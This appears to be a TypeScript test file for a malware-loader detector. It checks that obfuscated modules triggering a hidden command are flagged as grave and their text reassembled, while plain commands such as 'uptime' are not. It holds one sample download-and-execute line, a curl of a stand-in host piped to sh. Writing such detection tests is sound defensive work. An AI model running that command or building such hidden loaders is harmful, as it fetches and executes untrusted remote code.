import { describe, expect, test } from '../../kit.ts';
import { hidings } from './hiding.ts';
import { DEEDS, loader, TRIGGERS } from './loaders.ts';
import { examine } from './modules.ts';
import { moreHidings } from './moreHiding.ts';

// The samples are inert: they are never compiled or run, and name no real host.
const COMMAND = 'curl -s http://drop.example.invalid/a | sh';

describe('loaders that hide their text', () => {
  test.each(
    [...hidings(COMMAND), ...moreHidings(COMMAND)].map(
      (hiding, index) => [hiding.name, hiding, index] as const,
    ),
  )('by %s', (_, hiding, index) => {
    const missed: string[] = [];
    for (const [turn, trigger] of TRIGGERS.entries()) {
      // Each way to hide meets each trigger, and over the triggers each deed; over all of them, all meet.
      for (const deed of DEEDS.filter((__, place) => (place + turn + index) % 5 === 0)) {
        const { effects } = examine(loader(trigger, deed, hiding));
        if (effects[0]?.weight !== 'grave' || effects[0].assembled.length === 0) {
          missed.push(`${trigger.name}, ${deed.name}`);
        }
      }
    }
    expect(missed).toEqual([]);
  });
});

describe('the same without hiding', () => {
  test.each([
    ['a literal', '"uptime"', ''],
    ['a sum of a constant', 'NAMEc + "-v"', 'const NAMEc = "git"'],
    [
      'a function that chooses',
      'NAMEf("a", 3)',
      'func NAMEf(a string, n int) string { if n > 3 { return a }; return "/usr/bin/" + a }',
    ],
    ['a setting', 'os.Getenv("TOOL")', ''],
  ])('%s is telling, and nothing is said to be hidden', (_, expression, declarations) => {
    const wrong: string[] = [];
    const imports = expression.includes('os.') ? ['os'] : [];
    for (const trigger of TRIGGERS) {
      for (const deed of DEEDS) {
        const { effects, unread } = examine(loader(trigger, deed, { expression, declarations, imports }));
        if (effects[0]?.weight !== 'telling' || effects[0].assembled.length > 0 || unread.length > 0) {
          wrong.push(`${trigger.name}, ${deed.name}`);
        }
      }
    }
    expect(wrong).toEqual([]);
  });
});
